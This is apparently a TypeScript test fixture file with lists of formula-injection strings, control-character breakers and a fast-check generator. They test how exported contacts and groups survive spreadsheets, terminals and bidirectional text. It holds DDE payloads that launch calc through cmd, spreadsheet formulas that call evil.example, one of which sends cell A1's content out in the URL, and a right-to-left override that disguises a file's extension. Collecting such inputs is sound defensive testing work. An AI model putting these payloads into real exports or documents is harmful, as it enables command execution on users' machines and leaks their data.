// Texts that spreadsheets, terminals and bidirectional text take for orders: as contacts, groups and whatever else people name.

import * as fc from "fast-check";

/** Formulas that compute, call out or start programs in one spreadsheet or another. */
export const formulas = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "=cmd|'/C calc'!A0",
  '=DDE("cmd";"/C calc";"A0")',
  "=DDEAUTO(1)",
  '=HYPERLINK("https://evil.example/?"&A1;"Camille")',
  '=IMPORTXML("https://evil.example/";"//a")',
  '=IMAGE("https://evil.example/a.png")',
  '=WEBSERVICE("https://evil.example/")',
  "'=1+1",
  "''=1+1",
  "\t=1+1",
  "\n=1+1",
  "\r=1+1",
  "\0=1+1",
  " =1+1",
  '"=1+1"',
  '";=1+1;"',
  '",=1+1,"',
  'a"\r\n=1+1',
] as const;

/** One record each, whatever they hold. */
export const breakers = [
  "two\r\nlines",
  "\u2028line\u2029paragraph",
  "\u001b[2J\u001b[31mred\u001b[0m",
  "\u202egnp.exe\u2066",
  "half \ud800 a character",
  "nul\0inside",
  "_x000D_ _x0041_",
  "<b>&amp;</b> ]]>",
  "日本語の名前 👩‍👩‍👧",
  `=1+1${"x".repeat(1024 * 1024)}`,
  "\n".repeat(1024 * 1024),
] as const;

const anyUnit = fc.string({ unit: "binary", minLength: 1, maxLength: 1 });
/** Half characters too, and often the beginning of an order. */
export const anyHostileText = fc
  .tuple(
    fc.constantFrom("", "", ...formulas),
    fc.string({
      unit: fc.oneof(
        fc.constantFrom("=", "'", '"', ",", ";", "\t", "\r", "\n", "\ud800", "\u202e", "👧"),
        anyUnit,
      ),
    }),
  )
  .map(([first, rest]) => first + rest);
